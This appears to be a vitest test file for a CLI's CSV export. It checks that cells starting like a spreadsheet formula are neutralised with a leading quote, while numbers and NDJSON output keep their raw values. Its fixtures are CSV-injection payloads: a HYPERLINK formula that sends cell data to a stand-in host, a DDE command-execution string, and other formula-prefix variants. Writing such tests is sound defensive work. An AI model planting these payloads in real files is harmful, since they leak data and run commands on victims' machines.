/**
 * `tessera export … --format csv` is safe to open in a spreadsheet: text that
 * starts like a formula is neutralised with a leading `'`; whole numbers,
 * negative ones too, stay numbers. NDJSON keeps the values as recorded.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { keys } from '../../src/redis/keys';
import { cli, cliEnv, lines, setEnv } from '../support/cli';
import { mint, seedCatalog, startHarness, talkProduct, type Harness } from '../support/harness';
import { hashOf, bucketOf } from '../support/redis';

let h: Harness;
let restoreEnv: (() => void) | undefined;
const TALK = talkProduct({ name: 'talk-csv' });

beforeAll(async () => {
  h = await startHarness();
  await seedCatalog(h, [TALK]);
  restoreEnv = setEnv(cliEnv(h));
});
afterAll(async () => {
  restoreEnv?.();
  await h?.stop();
});

describe('export as CSV', () => {
  it('neutralises text that starts like a formula and leaves whole numbers, negative ones too, as numbers', async () => {
    const [id] = (await mint(h, TALK, 1)) as [string];
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    expect((await cli('activate', id, '--price', '950000', '--ref', formula)).code).toBe(0);
    // A refund record as lua/refund.lua writes it, with hostile reasons in every form a spreadsheet runs.
    const hostile = ['+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', 'plain'];
    for (const reason of hostile)
      await h.r.xadd(
        keys.sales(bucketOf(h, id)),
        '*',
        'type',
        'refund',
        'id',
        hashOf(h, id),
        'amount',
        '-4500000',
        'reason',
        reason,
      );

    const csv = await cli('export', 'sales', '--format', 'csv');
    expect(csv.code).toBe(0);
    const rows = parse<Record<string, string>>(csv.out, { columns: true });
    const sale = rows.find((r) => r.type === '')!;
    expect(sale.ref).toBe(`'${formula}`);
    expect(sale.price).toBe('950000');
    const refunds = rows.filter((r) => r.type === 'refund');
    expect(refunds.map((r) => r.reason)).toEqual(hostile.map((r) => (r === 'plain' ? r : `'${r}`)));
    for (const r of refunds) expect(r.amount).toBe('-4500000');
    // Every field a spreadsheet would open starts with something other than a formula character, or is a number.
    for (const r of rows)
      for (const v of Object.values(r)) expect(/^[=+\-@\t\r]/.test(v) && !/^-?[0-9]+$/.test(v), v).toBe(false);

    // NDJSON is data, not a sheet: the values as recorded.
    const nd = lines((await cli('export', 'sales', '--format', 'ndjson')).out).map(
      (l) => JSON.parse(l) as Record<string, string>,
    );
    expect(nd.find((r) => r.type !== 'refund')!.ref).toBe(formula);
    expect(nd.filter((r) => r.type === 'refund').map((r) => r.reason)).toEqual(hostile);
  });
});
